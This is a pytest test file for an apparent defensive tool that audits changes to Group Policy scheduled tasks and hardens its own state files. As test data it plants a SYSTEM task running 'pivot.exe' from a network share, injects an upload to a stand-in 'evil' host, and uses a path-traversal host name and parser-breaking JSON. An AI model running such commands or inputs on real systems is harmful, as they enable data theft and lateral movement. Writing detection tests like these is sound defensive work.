# Copyright: (c) 2026, taskguard contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""GPO task state between audits (issue 19): added, changed, removed, first run, hostile state files."""
from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from ansible_collections.taskguard.windows.plugins.plugin_utils import admin_surface, gpo_state

REPO_ROOT = Path(__file__).resolve().parents[4]
FIX = REPO_ROOT / "tests" / "unit" / "fixtures" / "admin_surface"
GUID = "{31B2F340-016D-11D2-945F-00C04FB984F9}"
EVIL_GUID = "{6AC1786C-016F-11D2-945F-00C04FB984F9}"
DC = {"name": "dc01", "domain_role": "domain_controller", "groups": []}
GPO_CODES = ("TG-G005", "TG-G006", "TG-G009", "TG-G013", "TG-G014")


def plant(root, guid, xml_name):
    target = root / "Windows" / "SYSVOL" / "domain" / "Policies" / guid / "Machine" / "Preferences" / "ScheduledTasks"
    target.mkdir(parents=True, exist_ok=True)
    (target / "ScheduledTasks.xml").write_bytes((FIX / xml_name).read_bytes())
    return target / "ScheduledTasks.xml"


def run(root, state_dir, host=None):
    """One audit as the drift playbook does it: load, judge, then (report step) save."""
    host = host or DC
    material = admin_surface.collect_offline_admin_surface(str(root))
    previous = admin_surface.load_previous(str(state_dir), host["name"], material)
    findings = admin_surface.audit(host, material, None, previous)
    admin_surface.save_state(str(state_dir), host["name"], admin_surface.state_for_next_audit(material, previous))
    return findings


def codes(findings):
    """{code: [finding]} over every reason of every finding (a GPO task lists all its codes)."""
    out = {}
    for finding in findings:
        for code in {finding["code"]} | {r["rule"] for r in finding["reasons"]}:
            out.setdefault(code, []).append(finding)
    return out


@pytest.fixture
def dc(tmp_path):
    root = tmp_path / "dc01"
    plant(root, GUID, "scheduled_tasks_mixed.xml")
    return root


def test_first_run_says_no_previous_state_and_claims_nothing_new(dc, tmp_path):
    found = codes(run(dc, tmp_path / "state"))
    [note] = found["TG-G013"]
    assert note["severity"] == "info" and note["kind"] == "note"
    assert not set(found) & {"TG-G005", "TG-G006", "TG-G009", "TG-G014"}
    assert (tmp_path / "state" / "dc01.gpo.json").is_file()


def test_second_run_unchanged_claims_nothing(dc, tmp_path):
    run(dc, tmp_path / "state")
    assert not set(codes(run(dc, tmp_path / "state"))) & set(GPO_CODES)


def test_task_added_since_the_last_audit_is_new_and_at_least_high(dc, tmp_path):
    run(dc, tmp_path / "state")
    plant(dc, EVIL_GUID, "scheduled_tasks_immediate_system.xml")
    found = codes(run(dc, tmp_path / "state"))
    [new] = found["TG-G005"]
    assert new["params"]["gpo_guid"] == EVIL_GUID and "pivot.exe" in new["params"]["command"]
    assert new["severity"] == "critical"           # immediate SYSTEM task from a UNC path
    assert "TG-G013" not in found
    # only the added one is new
    assert all(f["params"]["gpo_guid"] == EVIL_GUID for f in found["TG-G005"])


def test_added_disabled_item_stays_high(tmp_path):
    root = tmp_path / "dc01"
    (root / "Windows" / "SYSVOL" / "domain" / "Policies").mkdir(parents=True)
    run(root, tmp_path / "state")                  # SYSVOL with no GPO yet
    plant(root, GUID, "scheduled_tasks_mixed.xml")
    found = codes(run(root, tmp_path / "state"))
    old = [f for f in found["TG-G005"] if f["params"]["name"] == "Old Immediate"]
    assert old and old[0]["severity"] == "high"    # disabled, but written to SYSVOL since the last audit


def test_changed_definition_is_reported_with_the_previous_entry(dc, tmp_path):
    run(dc, tmp_path / "state")
    xml = dc / "Windows/SYSVOL/domain/Policies" / GUID / "Machine/Preferences/ScheduledTasks/ScheduledTasks.xml"
    xml.write_bytes(xml.read_bytes().replace(b"--scan", b"--scan --upload \\\\evil\\drop"))
    [changed] = codes(run(dc, tmp_path / "state"))["TG-G006"]
    assert changed["params"]["name"] == "Inventory Agent"
    assert changed["evidence"]["previous"]["name"] == "Inventory Agent"
    assert changed["severity"] in ("high", "critical")


@pytest.fixture
def clean_dc(tmp_path):
    """Two GPOs whose files parse whole (the mixed fixture holds unparseable items)."""
    root = tmp_path / "clean"
    plant(root, GUID, "scheduled_tasks_immediate_system.xml")
    plant(root, EVIL_GUID, "scheduled_tasks_immediate_system.xml")
    return root


def test_removed_task_is_reported_when_sysvol_was_read_whole(clean_dc, tmp_path):
    dc = clean_dc
    run(dc, tmp_path / "state")
    (dc / "Windows/SYSVOL/domain/Policies" / EVIL_GUID / "Machine/Preferences/ScheduledTasks/ScheduledTasks.xml").unlink()
    [removed] = codes(run(dc, tmp_path / "state"))["TG-G009"]
    assert removed["kind"] == "gpo_task" and removed["severity"] == "medium"
    assert removed["params"]["gpo_guid"] == EVIL_GUID and removed["params"]["name"] == "Install Updates"
    assert removed["params"]["command"] == "cmd.exe /c \\\\fs02.corp.contoso.example\\software$\\pivot.exe"
    assert EVIL_GUID in removed["title"] and "pivot.exe" in removed["title"]


def test_no_removal_claimed_when_a_file_could_not_be_read_and_no_false_new_after(clean_dc, tmp_path, monkeypatch):
    from ansible_collections.taskguard.windows.plugins.plugin_utils import gpo_tasks
    dc = clean_dc
    run(dc, tmp_path / "state")
    monkeypatch.setattr(gpo_tasks, "MAX_FILE_BYTES", 200)        # both files now over their cap
    partial = codes(run(dc, tmp_path / "state"))
    assert "TG-G011" in partial and "TG-G009" not in partial
    monkeypatch.undo()
    # the tasks not seen in the partial read were kept: they are not "new" now
    assert not set(codes(run(dc, tmp_path / "state"))) & set(GPO_CODES)


def test_nothing_new_claimed_for_a_gpo_the_last_audit_could_not_read(dc, tmp_path):
    evil = plant(dc, EVIL_GUID, "scheduled_tasks_immediate_system.xml")
    evil.write_bytes(b"<ScheduledTasks><TaskV2")                  # unparseable at the first audit
    run(dc, tmp_path / "state")
    plant_bytes = (FIX / "scheduled_tasks_immediate_system.xml").read_bytes()
    evil.write_bytes(plant_bytes)
    found = codes(run(dc, tmp_path / "state"))
    assert "TG-G005" not in found                                  # it may have been there, unread
    assert "TG-G003" in found                                      # still reported for what it is


@pytest.mark.parametrize("content", [
    b"not json at all",
    b"\xff\xfe\x00garbage",
    b'{"version": 2, "fully_read": true, "tasks": []}',
    b'{"version": 1, "fully_read": "yes", "tasks": []}',
    b'{"version": 1, "fully_read": true, "tasks": [{"gpo_guid": 5, "name": "x"}]}',
    b'{"version": 1, "fully_read": true, "tasks": {"a": 1}}',
    b'{"version": 1, "fully_read": true, "tasks": [], "unread_gpos": [1]}',
    b"[" * 100000 + b"]" * 100000,                                 # nesting deep enough to break a parser
    b"[]",
])
def test_hostile_state_file_is_a_finding_and_no_previous_state(dc, tmp_path, content):
    state_dir = tmp_path / "state"
    run(dc, state_dir)
    plant(dc, EVIL_GUID, "scheduled_tasks_immediate_system.xml")
    (state_dir / "dc01.gpo.json").write_bytes(content)
    found = codes(run(dc, state_dir))
    [gap] = found["TG-G014"]
    assert gap["kind"] == "coverage_gap" and "dc01.gpo.json" in gap["params"]["error"]
    assert not set(found) & {"TG-G005", "TG-G006", "TG-G009", "TG-G013"}
    # the report step replaced it: the next run compares again
    assert not set(codes(run(dc, state_dir))) & set(GPO_CODES)


def test_oversized_state_file_is_not_read_whole(dc, tmp_path, monkeypatch):
    monkeypatch.setattr(gpo_state, "MAX_STATE_BYTES", 64)
    state_dir = tmp_path / "state"
    state_dir.mkdir()
    (state_dir / "dc01.gpo.json").write_bytes(b" " * 65 + b'{"version": 1, "fully_read": true, "tasks": []}')
    previous = gpo_state.load(str(state_dir), "dc01")
    assert previous.status == "unreadable" and "larger than 64 bytes" in previous.error


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
def test_state_path_that_is_a_fifo_or_folder_is_unreadable_not_a_hang(tmp_path):
    state_dir = tmp_path / "state"
    state_dir.mkdir()
    os.mkfifo(state_dir / "dc01.gpo.json")
    assert gpo_state.load(str(state_dir), "dc01").status == "unreadable"
    (state_dir / "dc02.gpo.json").mkdir()
    assert gpo_state.load(str(state_dir), "dc02").status == "unreadable"


def test_state_file_is_private_and_host_names_cannot_escape(dc, tmp_path):
    state_dir = tmp_path / "state"
    material = admin_surface.collect_offline_admin_surface(str(dc))
    doc = admin_surface.state_for_next_audit(material)
    admin_surface.save_state(str(state_dir), "../../etc/x", doc)
    [written] = list(state_dir.iterdir())
    assert written.name.startswith("x-") and written.name.endswith(".gpo.json")
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
    assert stat.S_IMODE(state_dir.stat().st_mode) == 0o700
    saved = json.loads(written.read_text())
    assert saved["host"] == "../../etc/x" and saved["version"] == gpo_state.STATE_VERSION
    assert not [p for p in state_dir.iterdir() if p.name.startswith(".tmp-")]


def test_no_state_dir_or_no_sysvol_means_nothing_loaded_and_old_state_kept(tmp_path):
    empty = tmp_path / "empty"
    (empty / "Windows").mkdir(parents=True)
    material = admin_surface.collect_offline_admin_surface(str(empty))
    assert admin_surface.load_previous(None, "dc01", material) is None
    assert admin_surface.load_previous(str(tmp_path / "state"), "dc01", material) is None
    state_dir = tmp_path / "state"
    state_dir.mkdir()
    (state_dir / "dc01.gpo.json").write_text('{"version": 1, "fully_read": true, "tasks": []}')
    admin_surface.save_state(str(state_dir), "dc01", admin_surface.state_for_next_audit(material))
    assert (state_dir / "dc01.gpo.json").read_text() == '{"version": 1, "fully_read": true, "tasks": []}'
    findings = admin_surface.audit(DC, material, None, admin_surface.load_previous(str(state_dir), "dc01", material))
    assert not set(codes(findings)) & set(GPO_CODES)               # SYSVOL not found: TG-G010 only
    assert "TG-G010" in codes(findings)


def test_tasks_past_the_state_bound_are_not_new_next_time(dc, tmp_path, monkeypatch):
    """The state keeps at most MAX_STATE_TASKS tasks: the GPO of a task it could not
    keep is recorded unread, so that task is not 'added since the last audit' next run."""
    monkeypatch.setattr(gpo_state, "MAX_STATE_TASKS", 1)
    run(dc, tmp_path / "state")
    assert not set(codes(run(dc, tmp_path / "state"))) & {"TG-G005", "TG-G009"}
